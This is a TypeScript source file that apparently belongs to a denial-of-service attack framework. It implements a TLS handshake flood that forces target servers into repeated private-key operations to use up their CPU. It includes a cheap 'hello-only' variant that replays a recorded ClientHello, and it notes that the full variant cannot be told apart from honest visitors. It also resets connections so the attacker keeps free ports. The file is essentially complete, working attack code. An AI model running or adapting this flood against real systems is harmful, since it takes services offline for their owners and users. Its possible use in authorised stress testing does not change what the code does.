import type net from 'node:net';
import { Duplex } from 'node:stream';
import tls from 'node:tls';
import { z } from 'zod';
import type { AttackContext, AttackDefinition } from './attack.ts';
import { connectToTarget } from './attack-socket.ts';
import { type Fire, pace } from './pace.ts';

export interface TlsHandshakeSettings {
  /**
   * `complete` (default): the handshake is finished and the connection closed; a defender cannot tell it from an
   * honest visitor. `hello-only`: one recorded ClientHello is sent again and again, and the connection is dropped
   * once the target has signed its answer; costs the attacker next to nothing.
   */
  readonly variant: 'complete' | 'hello-only';
  /** Newest TLS version offered. Default `TLSv1.3`. */
  readonly maxVersion: 'TLSv1.2' | 'TLSv1.3';
}

/** Content type of a TLS record that holds handshake messages. */
const HANDSHAKE_RECORD = 22;
/**
 * A target's first flight up to its signature is longer than this (certificate and signature), and an alert or
 * a HelloRetryRequest is shorter.
 */
const SIGNED_FLIGHT_MIN_BYTES = 300;

/** Opens a raw connection and resolves to what `judge` says of it; false on an error, abort or timeout. */
function attempt(
  context: AttackContext,
  judge: (raw: net.Socket, end: (success: boolean) => void) => void,
): Promise<boolean> {
  const { plan, signal } = context;
  return new Promise((resolve) => {
    const raw = connectToTarget(context);
    const end = (success: boolean): void => {
      clearTimeout(timer);
      signal.removeEventListener('abort', abort);
      resolve(success);
      // A reset leaves no TIME_WAIT behind, of which thousands would use up the attacker's ports.
      raw.resetAndDestroy();
    };
    const abort = (): void => end(false);
    const timer = setTimeout(abort, plan.timeoutMs);
    signal.addEventListener('abort', abort);
    raw.on('error', abort);
    raw.on('close', abort);
    judge(raw, end);
  });
}

/** The bytes of a ClientHello as Node's own TLS client sends it. */
export function recordClientHello(maxVersion: TlsHandshakeSettings['maxVersion']): Promise<Buffer> {
  return new Promise((resolve) => {
    const wire = new Duplex({
      read() {},
      write(chunk: Buffer, _encoding, done) {
        resolve(chunk);
        done();
      },
    });
    tls.connect({ socket: wire, maxVersion, rejectUnauthorized: false }).on('error', () => {});
  });
}

/** Sends the recorded hello and waits for the target's signed flight. */
function helloOnly(context: AttackContext, hello: Buffer): Fire {
  return () =>
    attempt(context, (raw, end) => {
      let received = 0;
      raw.on('data', (chunk) => {
        if (received === 0 && chunk[0] !== HANDSHAKE_RECORD) return end(false);
        received += chunk.length;
        if (received >= SIGNED_FLIGHT_MIN_BYTES) end(true);
      });
      raw.write(hello);
    });
}

/** Finishes a handshake of its own, without a session to resume. */
function complete(context: AttackContext, maxVersion: TlsHandshakeSettings['maxVersion']): Fire {
  return () =>
    attempt(context, (raw, end) => {
      const secure = tls.connect({ socket: raw, rejectUnauthorized: false, maxVersion });
      secure.on('error', () => end(false));
      secure.on('secureConnect', () => end(true));
    });
}

/** A flood of full TLS handshakes: every one costs the target a private-key operation. */
export const tlsHandshake: AttackDefinition<'tls-handshake'> = {
  name: 'tls-handshake',
  title: 'Opens TLS connections without resumption, each of which costs the target a private-key operation.',
  needs: [
    'A TLS port with a certificate; RSA keys cost the target most. No default setting stands in the way.',
  ],
  exhausts: 'cpu',
  settings: z.strictObject({
    variant: z.enum(['complete', 'hello-only']).default('complete'),
    maxVersion: z.enum(['TLSv1.2', 'TLSv1.3']).default('TLSv1.3'),
  }),
  async prepare({ variant, maxVersion }) {
    const hello = await recordClientHello(maxVersion);
    return (context) =>
      pace(context, variant === 'complete' ? complete(context, maxVersion) : helloOnly(context, hello));
  },
};
